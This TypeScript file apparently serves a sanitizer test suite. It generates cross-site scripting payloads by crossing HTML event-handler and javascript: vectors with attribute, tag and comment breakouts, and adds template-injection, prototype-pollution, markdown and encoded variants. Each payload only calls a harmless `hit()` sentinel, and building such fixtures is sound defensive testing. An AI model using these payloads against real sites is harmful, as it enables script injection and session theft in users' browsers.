/**
 * Text that would run if a page ever took it for markup, an address or a script: families of ways to run
 * something, each in families of places to break out of. All of them call `hit`, and nothing else.
 */
const call = "hit()";

const markup = [
  `<script>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `<img src="x" onerror="${call}">`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<body onload=${call}>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<a href="javascript:${call}" autofocus onfocus=${call}>x</a>`,
  `<input autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}><summary>x</summary></details>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}></audio>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<math><mi xlink:href="javascript:${call}">x</mi></math>`,
  `<form action="javascript:${call}"><button autofocus onfocus=${call}>x</button></form>`,
  `<style>@import "javascript:${call}";</style>`,
  `<style onload=${call}></style>`,
  `<link rel=stylesheet href="data:text/css,x" onload=${call} onerror=${call}>`,
  `<base href="javascript:${call}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
] as const;

const breakouts: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `">${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `</textarea>${payload}`,
  (payload) => `</title></style></script>${payload}`,
  (payload) => `--><!-- -->${payload}`,
  (payload) => `]]>${payload}`,
  (payload) => payload.replaceAll("<", "<\u0000"),
  (payload) => payload.toUpperCase().replaceAll("HIT()", call),
  (payload) => `<x y=z>${payload}</x>`,
];

const expressions = [
  call,
  `javascript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `\${${call}}`,
  `{{${call}}}`,
  `{{constructor.constructor("${call}")()}}`,
  `<%= ${call} %>`,
  `';${call};'`,
  `";${call};"`,
  `\`;${call};\``,
  `\\";${call}//`,
  `__proto__[onerror]=${call}`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${call}>"}}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}}`,
  `[x](javascript:${call})`,
  `![x](x"onerror="${call})`,
  `<javascript:${call}>`,
  `&lt;img src=x onerror=${call}&gt;`,
  `&#60;img src=x onerror=${call}&#62;`,
  `%3Cimg%20src=x%20onerror=${call}%3E`,
  `\\u003cimg src=x onerror=${call}\\u003e`,
  `＜img src=x onerror=${call}＞`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `expression(${call})`,
  `url(javascript:${call})`,
] as const;

const endings: readonly ((payload: string) => string)[] = [(payload) => payload, (p) => ` ${p} `];

/** 25 × 10 and 25 × 2. */
export const xssPayloads: readonly string[] = [
  ...markup.flatMap((payload) => breakouts.map((breakOut) => breakOut(payload))),
  ...expressions.flatMap((payload) => endings.map((end) => end(payload))),
];
